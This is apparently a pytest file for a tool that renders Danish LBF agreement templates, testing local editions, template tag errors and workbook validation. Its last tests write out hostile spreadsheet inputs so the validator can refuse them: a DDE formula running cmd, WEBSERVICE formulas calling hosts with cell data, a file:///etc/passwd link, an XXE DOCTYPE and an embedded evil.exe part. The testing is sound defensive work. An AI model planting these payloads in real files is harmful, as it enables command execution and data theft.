"""Editions: local copies edited in Word, focus areas per edition, and the template check in build."""

from __future__ import annotations

import hashlib
import re
import shutil
from pathlib import Path

import pytest
import yaml
from click.testing import CliRunner
from docx import Document

from agreement import editions
from agreement.cli import main
from agreement.pipeline import build
from agreement.resources import EDITIONS
from tests.conftest import ROOT, copy_build, pdf_text, replace_line
from tests.zipbomb import repack

BUILT_IN = EDITIONS / "lbf-2019-26"
# One of LBF's fixed sentences on the "Aftaledokumenter" page of the strategic agreement.
FIXED = "Det er et krav, at der udarbejdes en"


def _tree(folder: Path) -> dict[str, str]:
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest() for p in sorted(folder.rglob("*")) if p.is_file()}


def _local_edition(content: Path, name: str = "lokal") -> Path:
    result = CliRunner().invoke(main, ["templates", "export", "lbf-2019-26", str(content / "skabeloner" / name),
                                       "--content", str(content)])
    assert result.exit_code == 0, result.output
    replace_line(content / "strategic.yaml", r"^skabelon: lbf-2019-26$", f"skabelon: {name}")
    return content / "skabeloner" / name


def _edit_in_word(template: Path, old: str, new: str) -> None:
    """What a secretariat does in Word: change a sentence inside one run, and save."""
    doc = Document(str(template))
    for paragraph in doc.paragraphs:
        for run in paragraph.runs:
            if old in run.text:
                run.text = run.text.replace(old, new)
                doc.save(str(template))
                return
    raise AssertionError(f"{old!r} is not in {template.name}")


def test_a_sentence_changed_in_a_local_edition_reaches_the_pdf(content: Path, built, tmp_path: Path) -> None:
    before = _tree(BUILT_IN)
    # A local copy under the built-in edition's own name, which wins over the built-in one; every document names
    # its edition, so under another name all of them would be made again (a build with a local edition of another
    # name uses its templates: see test_an_unknown_or_split_tag_stops_check_and_build).
    local = _local_edition(content, BUILT_IN.name)
    _edit_in_word(local / "strategisk-samarbejdsaftale.docx", FIXED, "Det er et skærpet krav, at der udarbejdes en")
    # Into a copy of the shared build of the sample: the changed template's document alone is made anew.
    said: list[str] = []
    result = build(content, copy_build(built.out_dir, tmp_path / "out"), progress=said.append)
    assert [line.split(" (")[0] for line in said if line.startswith("rendered")] == ["rendered strategisk-samarbejdsaftale.docx"]
    assert _pdf_says(result.out_dir / "strategisk-samarbejdsaftale.pdf", "Det er et skærpet krav")
    assert _tree(BUILT_IN) == before, "the built-in edition must not change"


def _pdf_says(pdf: Path, words: str) -> bool:
    """Whether `words` stand in the PDF's text (across line breaks)."""
    return words in " ".join(pdf_text(pdf).split())


def test_templates_list_names_built_in_and_local_editions(content: Path) -> None:
    _local_edition(content, "lbf-ny")
    result = CliRunner().invoke(main, ["templates", "list", "--content", str(content)])
    assert result.exit_code == 0, result.output
    rows = [line.split("\t") for line in result.output.splitlines()]
    assert rows[0][:2] == ["lbf-2019-26", "built-in"]
    assert rows[1][:2] == ["lbf-ny", "local"]


def test_export_refuses_an_existing_folder(content: Path) -> None:
    local = _local_edition(content)
    result = CliRunner().invoke(main, ["templates", "export", "lbf-2019-26", str(local), "--content", str(content)])
    assert result.exit_code == 1
    assert "already exists" in result.output


def _break(template: Path, old: str, new_runs: list[tuple[str, bool]]) -> None:
    """Replace the run holding `old` by runs (text, bold), as Word does when part of a tag is formatted."""
    doc = Document(str(template))
    for paragraph in doc.paragraphs:
        for run in paragraph.runs:
            if old in run.text:
                before, after = run.text.split(old, 1)
                run.text = before
                anchor = run._r
                for text, bold in [*new_runs, (after, False)]:
                    new = paragraph.add_run(text)
                    new.bold = bold
                    anchor.addnext(new._r)
                    anchor = new._r
                doc.save(str(template))
                return
    raise AssertionError(old)


@pytest.mark.parametrize(("runs", "words"), [
    ([("{{ period_fro }}", False)], ["strategisk-samarbejdsaftale.docx", "period_fro", "did you mean 'period_from'"]),
    ([("{{ period_", False), ("from }}", True)], ["strategisk-samarbejdsaftale.docx", "{{ period_from }}", "split"]),
])
def test_an_unknown_or_split_tag_stops_check_and_build(content: Path, tmp_path: Path, runs, words) -> None:
    local = _local_edition(content)
    _break(local / "strategisk-samarbejdsaftale.docx", "{{ period_from }}", runs)
    for args in (["templates", "check", "--content", str(content)],
                 ["build", "--content", str(content), "--out", str(tmp_path / "out"), "--format", "docx", "-q"]):
        result = CliRunner().invoke(main, args)
        assert result.exit_code == 1, result.output
        lines = [line for line in result.output.splitlines() if all(w in line for w in words)]
        assert lines, result.output
        assert "Traceback" not in result.output
    assert not (tmp_path / "out").exists()


def test_the_focus_areas_come_from_the_edition(content: Path) -> None:
    local = _local_edition(content, "lbf-ny")
    data_file = local / "edition.yaml"
    data = yaml.safe_load(data_file.read_text(encoding="utf-8"))
    data["indsatsområder"] = ["Uddannelse og livschancer", "Beskæftigelse", "Tryghed og trivsel"]
    data_file.write_text(yaml.safe_dump(data, allow_unicode=True), encoding="utf-8")
    line = replace_line(content / "strategic.yaml", r"^    - navn: Kriminalitetsforebyggelse$", "    - navn: Tryghed og trivsel")
    result = CliRunner().invoke(main, ["check", "--content", str(content)])
    assert result.exit_code == 1
    messages = result.output.splitlines()
    # Sammenhængskraft is one of lbf-2019-26's areas but not of this edition's; Tryghed og trivsel is.
    assert not any(f"strategic.yaml:{line}:" in m for m in messages), result.output
    assert any("'Sammenhængskraft og medborgerskab' is not allowed" in m and "Tryghed og trivsel" in m for m in messages), \
        result.output


def test_an_unknown_edition_is_a_located_error(content: Path) -> None:
    line = replace_line(content / "strategic.yaml", r"^skabelon: lbf-2019-26$", "skabelon: lbf-2019-25")
    result = CliRunner().invoke(main, ["check", "--content", str(content)])
    assert result.exit_code == 1
    assert re.search(rf"strategic\.yaml:{line}:\d+: unknown edition 'lbf-2019-25' \(did you mean 'lbf-2019-26'\?\)",
                     result.output), result.output


def test_a_broken_edition_file_is_reported_in_it(content: Path) -> None:
    local = _local_edition(content)
    line = replace_line(local / "edition.yaml", r"^finansiering:$", "finansieringer:")
    result = CliRunner().invoke(main, ["check", "--content", str(content)])
    assert result.exit_code == 1
    assert f"edition.yaml:{line}:" in result.output


@pytest.mark.parametrize("link", ["template", "edition.yaml", "folder", "skabeloner"])
def test_a_local_edition_may_not_link_outside_the_content_folder(content: Path, tmp_path: Path, link: str) -> None:
    """Content YAML and figures refuse links out of the content folder; so does a local edition, whatever is a link."""
    local = _local_edition(content)
    outside = tmp_path / "outside"
    shutil.copytree(local, outside)
    if link == "template":
        target = local / "budget.docx"
        target.unlink()
        target.symlink_to(outside / "budget.docx")
    elif link == "edition.yaml":
        target = local / "edition.yaml"
        target.unlink()
        target.symlink_to(outside / "edition.yaml")
    elif link == "folder":
        shutil.rmtree(local)
        local.symlink_to(outside, target_is_directory=True)
        target = local
    else:
        shutil.move(content / "skabeloner", tmp_path / "skabeloner")
        (content / "skabeloner").symlink_to(tmp_path / "skabeloner", target_is_directory=True)
        target = content / "skabeloner"
    what = "folder" if link in ("folder", "skabeloner") else "file"
    into = "the content folder" if what == "folder" else "the edition's folder"
    for command in (["check", "--content", str(content)], ["build", "--content", str(content), "--out", str(tmp_path / "out")]):
        result = CliRunner().invoke(main, command)
        assert result.exit_code == 1, result.output
        assert (f"{target}: this is a link to a place outside the content folder; copy the {what} itself into {into} "
                "instead of the link") in result.output, result.output
        assert result.output.count("this is a link") == 1 and "Traceback" not in result.output
    assert not (tmp_path / "out").exists()


def test_a_link_inside_the_content_folder_is_fine(content: Path) -> None:
    local = _local_edition(content)
    (content / "delt").mkdir()
    shutil.move(local / "budget.docx", content / "delt" / "budget.docx")
    (local / "budget.docx").symlink_to(content / "delt" / "budget.docx")
    result = CliRunner().invoke(main, ["check", "--content", str(content)])
    assert result.exit_code == 0, result.output


def test_no_code_names_an_lbf_period() -> None:
    """LBF's periods live in editions, not in code."""
    pattern = re.compile(r"20\d\d-\d\d-midl|regulativ(et)? af|lbf-20\d\d")
    offenders = [str(p.relative_to(ROOT)) for p in (ROOT / "agreement").rglob("*.py") if pattern.search(p.read_text("utf-8"))]
    assert offenders == []


def test_every_built_in_edition_loads() -> None:
    for name, (folder, origin) in editions.available().items():
        edition = editions.load_edition(folder, origin)
        assert edition.name == name and edition.focus_areas and origin == editions.BUILT_IN


# -- the edition's workbook: a form to fill, no formulas ------------------------------------------


def _workbook(path: Path, *formulas: str, link: str | None = None) -> None:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    for c, text in enumerate(["Indikator", "Indsatsområde", "Målværdi"], start=1):
        ws.cell(row=6, column=c, value=text)
    for r, formula in enumerate(formulas, start=8):
        ws.cell(row=r, column=1, value=formula)
    if link is not None:
        ws["B2"].hyperlink = link
    ws.print_area = "A1:C20"  # a defined name that is a plain reference, as LBF's form may have
    wb.save(path)


FORMULAS = ["=cmd|' /C calc'!A0", '=WEBSERVICE("http://example.org/?"&A1)', '=HYPERLINK("file:///c:/x","klik")',
            "=SUM(A1:A2)"]


def test_formulas_in_the_edition_workbook_are_refused_at_their_cell(content: Path, tmp_path: Path) -> None:
    local = _local_edition(content)
    _workbook(local / "indberetningsskema.xlsx", *FORMULAS)
    result = CliRunner().invoke(main, ["templates", "check", "--content", str(content)])
    assert result.exit_code == 1
    lines = result.output.splitlines()
    for row, formula in enumerate(FORMULAS, start=8):
        assert (f"indberetningsskema.xlsx: the part xl/worksheets/sheet1.xml has a formula (A{row}: {formula[:41]}"
                in result.output), result.output
    assert lines[-1] == "4 problems found in the templates"
    out = tmp_path / "out"
    result = CliRunner().invoke(main, ["build", "--content", str(content), "--out", str(out), "--format", "docx", "-q"])
    assert result.exit_code == 1 and "has a formula (A8: =cmd|" in result.output
    assert "Traceback" not in result.output and not (out / "manifest.json").exists()


def test_a_workbook_linking_to_a_file_or_holding_a_doctype_is_refused(content: Path) -> None:
    local = _local_edition(content)
    _workbook(local / "indberetningsskema.xlsx", link="file:///etc/passwd")
    result = CliRunner().invoke(main, ["templates", "check", "--content", str(content)])
    assert result.exit_code == 1
    assert ("indberetningsskema.xlsx: the part xl/worksheets/sheet1.xml links to 'file:///etc/passwd' outside the "
            "file (hyperlink)") in result.output
    _workbook(local / "indberetningsskema.xlsx", link="https://lbf.dk/")
    result = CliRunner().invoke(main, ["templates", "check", "--content", str(content)])
    assert result.exit_code == 0, result.output
    repack(local / "indberetningsskema.xlsx", local / "doctype.xlsx", {"xl/workbook.xml": lambda data: data.replace(
        b"<workbook", b'<!DOCTYPE w [<!ENTITY e SYSTEM "file:///etc/passwd">]><workbook', 1)})
    (local / "doctype.xlsx").replace(local / "indberetningsskema.xlsx")
    result = CliRunner().invoke(main, ["templates", "check", "--content", str(content)])
    assert result.exit_code == 1
    assert "indberetningsskema.xlsx: the part xl/workbook.xml has a DOCTYPE" in result.output


def test_formulas_in_rules_and_validations_and_foreign_parts_in_the_workbook_are_refused(content: Path) -> None:
    from openpyxl import load_workbook
    from openpyxl.formatting.rule import FormulaRule
    from openpyxl.worksheet.datavalidation import DataValidation

    local = _local_edition(content)
    workbook = local / "indberetningsskema.xlsx"
    _workbook(workbook)
    wb = load_workbook(workbook)
    ws = wb.active
    ws.conditional_formatting.add("A1:A3", FormulaRule(formula=['LEN(WEBSERVICE("http://127.0.0.1:9/?"&A2))>0']))
    validation = DataValidation(type="custom", formula1='ISNUMBER(WEBSERVICE("http://127.0.0.1:9/dv"))')
    validation.add("B2")
    ws.add_data_validation(validation)
    wb.save(workbook)
    repack(workbook, local / "extra.xlsx", {"xl/payload/evil.exe": b"MZ", "[Content_Types].xml": lambda data: data.replace(
        b"</Types>", b'<Default Extension="exe" ContentType="application/x-msdownload"/></Types>')})
    (local / "extra.xlsx").replace(workbook)
    result = CliRunner().invoke(main, ["templates", "check", "--content", str(content)])
    assert result.exit_code == 1
    for expected in ('the part xl/worksheets/sheet1.xml has a formula (conditional formatting A1:A3: =LEN(WEBSERVICE(',
                     'the part xl/worksheets/sheet1.xml has a formula (data validation B2: =ISNUMBER(WEBSERVICE(',
                     "the part xl/payload/evil.exe (application/x-msdownload) is not one Excel writes for a document; "
                     "save the file again in Excel without it"):
        assert f"indberetningsskema.xlsx: {expected}" in result.output, result.output
